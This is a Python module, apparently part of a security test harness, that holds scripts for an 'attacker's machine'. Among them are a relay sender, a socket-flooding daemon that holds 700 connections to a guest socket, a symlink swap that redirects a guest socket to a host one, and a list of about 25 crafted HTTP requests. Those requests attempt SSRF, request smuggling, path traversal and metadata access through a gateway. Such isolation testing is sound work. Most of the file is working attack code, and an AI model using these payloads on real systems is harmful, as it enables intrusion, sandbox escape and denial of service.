"""Programs for an attacker's machine that need somebody outside to watch: on the gateway, on the guest, on all."""

#: Sends each request, as bytes in hex, to the gateway's relay; tells the first line of each answer, as JSON.
SPEAK = """
import json, socket, sys
told = {}
for name, request in json.load(sys.stdin).items():
    try:
        with socket.create_connection(("127.0.0.1", 8990), 10) as connection:
            answer = b""
            try:
                connection.sendall(bytes.fromhex(request))
                while piece := connection.recv(65536):
                    answer += piece
                    connection.settimeout(0.3)  # whatever may still come behind it
            except TimeoutError:
                pass
        told[name] = answer.decode("latin-1")
    except OSError as error:
        told[name] = f"{error}"
print(json.dumps(told))
"""

#: Holds 700 connections to the guest's socket, or as many as it gets, tells how many, and stays with them.
FLOOD = """
import os, socket, sys
held = []
try:
    while len(held) < 700:
        one = socket.socket(socket.AF_UNIX)
        one.settimeout(2)
        try:
            one.connect(sys.argv[1])
        except BlockingIOError:  # its queue is full
            os.sched_yield()
        else:
            held.append(one)
except OSError:
    pass
if os.fork():
    print(len(held), flush=True)
    os._exit(0)
os.setsid()
with open("flood.pid", "w") as file:
    file.write(str(os.getpid()))
null = os.open("/dev/null", os.O_RDWR)
for descriptor in range(3):
    os.dup2(null, descriptor)
while True:
    held[-1].recv(1) if held else sys.exit()
    held.pop()
"""

#: Puts a link to a socket of the host's in the place of the guest's own.
SWAP = """
import os, sys
os.rename(sys.argv[1], sys.argv[1] + ".away")
os.symlink(sys.argv[2], sys.argv[1])
"""


def payloads(victim: str, port: int, route: str) -> dict[str, str]:
    """Requests that would like to reach `victim`:`port` by way of the gateway, as hex, by what they try."""
    host = f"{victim}:{port}"
    plain = f"GET /{route}/plain HTTP/1.1\r\nHost: gateway\r\n\r\n"
    inner = f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n"
    post = f"POST /{route}/body HTTP/1.1\r\nHost: gateway\r\n"
    tries = {
        "absolute form": inner,
        "absolute form with https": inner.replace("http:", "https:"),
        "CONNECT": f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n",
        "another host": f"GET /{route}/host HTTP/1.1\r\nHost: {host}\r\n\r\n",
        "two hosts": f"GET /{route}/hosts HTTP/1.1\r\nHost: gateway\r\nHost: {host}\r\n\r\n",
        "user in the path": f"GET /{route}@{host}/ HTTP/1.1\r\nHost: gateway\r\n\r\n",
        "no scheme": f"GET //{host}/ HTTP/1.1\r\nHost: gateway\r\n\r\n",
        "dots": f"GET /{route}/../../secret HTTP/1.1\r\nHost: gateway\r\n\r\n",
        "encoded dots": f"GET /{route}/%2e%2e/%2E%2E/secret HTTP/1.1\r\nHost: gateway\r\n\r\n",
        "backslashes": f"GET /{route}\\..\\secret HTTP/1.1\r\nHost: gateway\r\n\r\n",
        "a fragment": f"GET /{route}/#@{host}/ HTTP/1.1\r\nHost: gateway\r\n\r\n",
        "an asterisk": "OPTIONS * HTTP/1.1\r\nHost: gateway\r\n\r\n",
        "another route": "GET /metadata/latest HTTP/1.1\r\nHost: gateway\r\n\r\n",
        "upgrade": f"GET /{route}/up HTTP/1.1\r\nHost: gateway\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n",
        "forwarded": f"GET /{route}/fwd HTTP/1.1\r\nHost: gateway\r\nX-Forwarded-Host: {host}\r\n\r\n",
        "both lengths": post + f"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
        "two lengths": post + f"Content-Length: 4\r\nContent-Length: 0\r\n\r\n{inner}",
        "odd chunks": post + f"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{inner}",
        "a request as a body": post + f"Content-Length: {len(inner)}\r\n\r\n{inner}",
        "a request behind": plain + inner,
        "bare line ends": f"GET /{route}/bare HTTP/1.1\nHost: gateway\nX: y\n\n{inner}",
        "a folded header": f"GET /{route}/fold HTTP/1.1\r\nHost: gateway\r\nX: a\r\n {inner}",
        "version 2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "version 0.9": f"GET http://{host}/\r\n\r\n",
        "a long head": f"GET /{route}/{'a' * 100_000} HTTP/1.1\r\nHost: gateway\r\n\r\n",
    }
    return {name: request.encode("latin-1").hex() for name, request in tries.items()}
